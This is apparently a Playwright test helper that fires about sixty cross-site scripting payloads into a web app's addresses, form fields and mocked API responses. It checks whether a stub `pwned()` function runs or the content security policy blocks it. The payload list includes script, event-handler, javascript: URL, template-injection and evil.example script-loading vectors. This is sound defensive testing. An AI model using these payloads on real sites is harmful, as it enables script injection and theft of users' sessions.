// Texts that would run as script if a page took them for markup, addresses or code; and the pages that show texts.
import type { Page, Route } from '@playwright/test';
import { z } from 'zod';
import { endpoints } from '#contract/index.ts';

const CALL = 'pwned()';

/** Sixty of them. Each calls `pwned`, were it ever run. */
export const hostileTexts: readonly string[] = [
  ...['script', 'SCRIPT', 'scr\u0000ipt', 'script/x', 'svg><script'].map((tag) => `<${tag}>${CALL}</script>`),
  ...['img', 'image', 'video', 'audio', 'input type=image', 'object', 'embed', 'body background'].map(
    (tag) => `<${tag} src=x onerror=${CALL}>`,
  ),
  ...['onload', 'onfocus', 'onmouseover', 'onanimationstart', 'onbegin', 'ontoggle', 'onpointerrawupdate'].map(
    (event) => `<svg ${event}=${CALL} autofocus tabindex=0 open><animate attributeName=x></svg>`,
  ),
  ...['"', "'", '`', '">', "'>", '-->', '</title>', '</textarea>', '</style>', '</template>', ']]>'].map(
    (end) => `${end}<img src=x onerror=${CALL}>`,
  ),
  ...['"', "'", '`', '\\"', '</script>'].map((end) => `${end};${CALL};//`),
  ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', '\u0001javascript:', 'data:text/html,<script>', 'vbscript:'].map(
    (scheme) => `${scheme}${CALL}`,
  ),
  ...['//evil.example/x.js', 'https://evil.example/x.js', '/\\evil.example'].map(
    (from) => `<script src="${from}"></script>`,
  ),
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<iframe src="javascript:parent.${CALL}">`,
  `<a href="javascript:${CALL}">x</a>`,
  `<form action="javascript:${CALL}"><button autofocus>x</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<base href="https://evil.example/"><script src=x.js></script>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
  `<style>@import 'javascript:${CALL}';</style>`,
  `<div style="background:url(javascript:${CALL})">`,
  `<details open ontoggle=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `{{constructor.constructor('${CALL}')()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a careless template would run
  '${pwned()}',
  `"><svg/onload=${CALL}>`,
];

type HostileTextResult = {
  /** How many of the texts were seen on a page, letter by letter. */
  shown: number;
  /** What ran, or what the content security policy had to stop from running. */
  faults: string[];
};

/** Puts each text wherever a page takes one: address, field, and every text in an answer of the server. */
export async function injectHostileTexts(
  page: Page,
  url: string,
  texts: readonly string[],
): Promise<HostileTextResult> {
  const faults: string[] = [];
  let now = '';
  let refuses = false;
  await page.addInitScript(() => {
    Object.assign(window, { pwned: () => console.log('pwned') });
    // Somebody is signed in, so that the guarded pages open.
    localStorage.setItem('token', JSON.stringify({ IdToken: 'x', AccessToken: 'x', RefreshToken: 'x' }));
    localStorage.setItem('userDetails', JSON.stringify({ id: 'x', username: 'x@infosys.com' }));
    localStorage.setItem('isLogin', 'true');
  });
  page.on('dialog', (dialog) => {
    faults.push(`${now}: a dialog opened`);
    void dialog.dismiss();
  });
  page.on('console', (message) => {
    const said = message.text();
    if (said === 'pwned') faults.push(`${now}: it ran`);
    // An address of ours that is none of a picture is stopped as a picture: that is no try to run anything.
    if (said.includes('Content Security Policy') && !said.includes('img-src')) faults.push(`${now}: ${said}`);
  });
  await page.route(
    (address) => address.origin === url,
    (route) => answer(route, now, refuses),
  );
  let shown = 0;
  for (const text of texts) {
    now = text;
    const seen: boolean[] = [];
    for (const [path, refused] of entryPointsFor(text)) {
      refuses = refused;
      await page.goto(url + path);
      await page.locator('h1').first().waitFor();
      await fill(page, text);
      seen.push(((await page.locator('body').textContent()) ?? '').includes(text.trim()));
    }
    if (seen.some(Boolean)) shown += 1;
  }
  return { shown, faults };
}

/** Each page with the text in its address, and whether the server refuses its calls, with the text for words. */
function entryPointsFor(text: string): [string, boolean][] {
  const coded = encodeURIComponent(text.toWellFormed());
  return [
    [`/result?id=${coded}#${coded}`, false],
    [`/result?id=${coded}`, true],
    [`/my-data?x=${coded}`, false],
    [`/admin?x=${coded}`, false],
    [`/share/0123456789abcdefABCDEF?x=${coded}`, false],
    [`/receipt?x=${coded}`, true],
  ];
}

/** Types it into every field of the page and sends the form. */
async function fill(page: Page, text: string): Promise<void> {
  const fields = page.locator('input[type=text], input[type=email], input[type=search], input:not([type]), textarea');
  for (const field of await fields.all()) if (await field.isEditable()) await field.fill(text.replaceAll('\u0000', ''));
  const button = page.locator('main form button[type=submit], main form button:not([type])').first();
  if ((await button.count()) > 0 && (await button.isEnabled())) await button.click();
  await page.evaluate(() => new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn))));
}

/** Every call of the table is answered with the text wherever its answer has one; everything else by the product. */
async function answer(route: Route, text: string, refuses: boolean): Promise<void> {
  const request = route.request();
  const { pathname } = new URL(request.url());
  const row = Object.values(endpoints).find(
    ({ method, path }) =>
      method === request.method() && new RegExp(`^${path.replace(/\{\w+\}/g, '[^/]+')}$`).test(pathname),
  );
  if (!row || typeof row.output === 'string' || pathname === '/campaign/settings') return route.continue();
  if (refuses) return route.fulfill({ status: 400, json: { error: text, message: text, code: 'internal' } });
  const schema = z.toJSONSchema(row.output, { io: 'input' }) as Schema;
  return route.fulfill({ json: filled(schema, text) });
}

type Schema = {
  type?: string;
  const?: unknown;
  enum?: unknown[];
  anyOf?: Schema[];
  properties?: Record<string, Schema>;
  items?: Schema;
  format?: string;
};

function filled(schema: Schema, text: string): unknown {
  if (schema.const !== undefined) return schema.const;
  if (schema.enum) return schema.enum.includes('completed') ? 'completed' : schema.enum[0];
  if (schema.anyOf) return filled(schema.anyOf[0], text);
  if (schema.properties) {
    return Object.fromEntries(Object.entries(schema.properties).map(([name, one]) => [name, filled(one, text)]));
  }
  if (schema.items) return [filled(schema.items, text)];
  if (schema.format === 'date-time') return '2026-01-01T00:00:00.000Z';
  if (schema.format === 'date') return '2026-01-01';
  if (schema.type === 'boolean') return true;
  return schema.type === 'string' ? text : 1;
}
